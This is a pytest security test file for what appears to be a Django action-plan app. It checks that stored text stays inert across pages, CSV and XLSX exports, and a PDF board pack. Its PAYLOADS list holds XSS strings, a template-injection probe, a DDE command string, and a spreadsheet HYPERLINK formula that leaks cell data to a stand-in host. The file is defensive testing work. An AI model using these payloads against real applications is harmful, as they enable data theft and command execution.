"""Stored HTML, script, template code and spreadsheet formulas in every text field are
inert: escaped in every page, neutralised in the CSV and XLSX exports, plain text in the
board pack PDF."""

import csv
import datetime
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from actionplan.models import EvidenceEntry
from agencies.models import Agency
from tests.test_access_matrix import MATRIX, ROLES

from .test_bad_input import baseline_for, form_fields, who_submits

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}",
    '=HYPERLINK("http://evil.example/?"&A1,"Click here")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]
ALL_PAYLOADS = " ".join(PAYLOADS)
# What must never reach a page as markup.
RAW = [
    re.compile(r"<script>alert\(1\)", re.I),
    re.compile(r"<img src=x", re.I),
    re.compile(r"""(href|src|action)\s*=\s*["']?\s*javascript:""", re.I),
]
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
NOT_TEXT = {"activity_date", "timescale", "position", "password", "username", "email"}
# Removals and deactivations last: the other forms still need their objects.
LAST = ("remove_", "person_deactivate", "membership_remove", "withdraw_evidence")


def assert_inert(html, where):
    for pattern in RAW:
        match = pattern.search(html)
        assert match is None, (where, html[max(0, match.start() - 120) : match.end() + 120])


def text_fields(html, url):
    """The free-text fields of the form at ``url``: textareas and text inputs."""
    names = []
    for match in re.finditer(r"<(textarea|input)\b([^>]*)>", html):
        tag, attrs = match.groups()
        name = re.search(r'name="([^"]+)"', attrs)
        kind = re.search(r'type="([^"]+)"', attrs)
        if not name or name.group(1) in NOT_TEXT or name.group(1) == "csrfmiddlewaretoken":
            continue
        if tag == "textarea" or (kind and kind.group(1) in ("text", "search")):
            names.append(name.group(1))
    posted = form_fields(html, url)
    return [name for name in dict.fromkeys(names) if name in posted]


def readable_pages(world):
    """Every page of the matrix a member can read, with the world's objects."""
    pages = []
    for name, (kwargs_spec, get_expected, _) in MATRIX.items():
        if not isinstance(get_expected, dict) or name.startswith("export"):
            continue
        role = next((r for r in ROLES[1:] if get_expected.get(r) == "ok"), None)
        if role:
            kwargs = {key: make(world) for key, make in kwargs_spec.items()}
            pages.append((reverse(name, kwargs=kwargs), role))
    return pages


def test_payloads_in_every_text_field_are_escaped_on_every_page(client, world):
    forms = sorted(
        (name for name in MATRIX if who_submits(name) not in (None, "anonymous")),
        key=lambda name: name.startswith(LAST),
    )
    submitted, accepted = 0, []
    for name in forms:
        url, baseline = baseline_for(client, world, name)
        for field in text_fields(client.get(url).content.decode(), url):
            # All of them; then, for short fields (names: 150 characters), the two HTML ones.
            for text in (ALL_PAYLOADS, " ".join(PAYLOADS[:2])):
                response = client.post(url, {**baseline, field: [text]}, follow=True)
                submitted += 1
                assert_inert(response.content.decode(), (name, field, "answer"))
                if response.redirect_chain:
                    accepted.append((name, field))
                    break
        client.logout()

    pages_seen = 0
    shown = False
    for role in ("manager", "chair", "awaken_lead", "board_member"):
        client.force_login(world["users"][role])
        for url, _ in readable_pages(world):
            response = client.get(url)
            if response.status_code != 200:
                continue
            html = response.content.decode()
            assert_inert(html, (role, url))
            shown = shown or ESCAPED in html
            pages_seen += 1

    assert submitted >= 25 and len(accepted) >= 20, accepted
    assert {"add_evidence", "rate_action", "edit_action", "agency_new"} <= {n for n, _ in accepted}
    assert shown  # the payloads were really on the pages, escaped
    assert pages_seen >= 20


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_a_search_or_a_sign_in_is_escaped_when_shown_back(client, world, payload):
    anonymous = client.get(reverse("login"), {"next": payload})
    sign_in = client.post(reverse("login"), {"username": payload, "password": payload})
    client.force_login(world["users"]["board_member"])
    search = client.get(reverse("plan_overview"), {"q": payload, "as_at": payload})

    for response in (anonymous, sign_in, search):
        assert response.status_code == 200
        assert_inert(response.content.decode(), payload)


@pytest.fixture
def hostile_plan(world, get_action):
    """Action 3.1 worded with the payloads, one evidence entry per payload (each at the
    start of its text) and a rating whose reason is all of them."""
    action = get_action("3.1")
    action.text = PAYLOADS[4]
    action.outcomes = PAYLOADS[5]
    action._change_reason = "Hostile text"
    action.save()
    awaken = Agency.objects.get(slug="awaken")
    for n, payload in enumerate(PAYLOADS):
        entry = EvidenceEntry(
            action=action,
            text=payload,
            activity_date=datetime.date(2015, 6, n + 1),
            agency=awaken,
            recorded_by=world["users"]["awaken_lead"],
        )
        entry._change_reason = "Evidence added"
        entry.save()
    action.rate("red", ALL_PAYLOADS, by=world["users"]["chair"])
    return action


def test_the_csv_export_neutralises_formulas(client, world, hostile_plan):
    client.force_login(world["users"]["board_member"])

    response = client.get(reverse("export_csv"))

    rows = list(csv.reader(io.StringIO(response.getvalue().decode())))
    cells = [cell for row in rows for cell in row]
    assert response.status_code == 200
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    row = next(row for row in rows if row[1] == "3.1")
    assert row[2] == "'" + PAYLOADS[4]
    assert row[3] == "'" + PAYLOADS[5]
    for payload in PAYLOADS:
        assert payload in row[6]


def test_the_xlsx_export_has_no_formulas(client, world, hostile_plan):
    client.force_login(world["users"]["board_member"])

    response = client.get(reverse("export_xlsx"))

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert response.status_code == 200
    assert all(cell.data_type != "f" for cell in cells)
    texts = [str(cell.value) for cell in cells if cell.value is not None]
    assert any(PAYLOADS[4] in text for text in texts)
    assert any(PAYLOADS[5] in text for text in texts)
    # openpyxl writes every one of them as a string; Excel shows them, runs none.
    assert "=HYPERLINK" not in sheet.parent.defined_names


def test_the_board_pack_pdf_shows_the_payloads_as_text(world, hostile_plan):
    # Rendered as tests/reporting renders a pack: the same context and the same PDF as
    # a download, without the background queue.
    from reporting.pack import pack_context
    from reporting.rendering import StaticFilesOnly, render_pack_html, render_pack_pdf

    asked = []

    class Recording(StaticFilesOnly):
        def fetch(self, url, headers=None):
            asked.append(url)
            return super().fetch(url, headers)

    context = pack_context(world["plan"], datetime.date.today(), generated_by=None)
    pdf = render_pack_pdf(render_pack_html(context), url_fetcher=Recording())

    reader = PdfReader(io.BytesIO(pdf))
    text = re.sub(r"\s+", "", "".join(page.extract_text() for page in reader.pages))
    for payload in PAYLOADS:
        assert re.sub(r"\s+", "", payload) in text, payload
    # Nothing was fetched but the pack's own stylesheets, and no link was made.
    assert all("/static/reporting/" in url for url in asked), asked
    for page in reader.pages:
        for annotation in page.get("/Annots") or []:
            uri = str(annotation.get_object().get("/A", {}).get("/URI", ""))
            assert "javascript" not in uri and "evil.example" not in uri
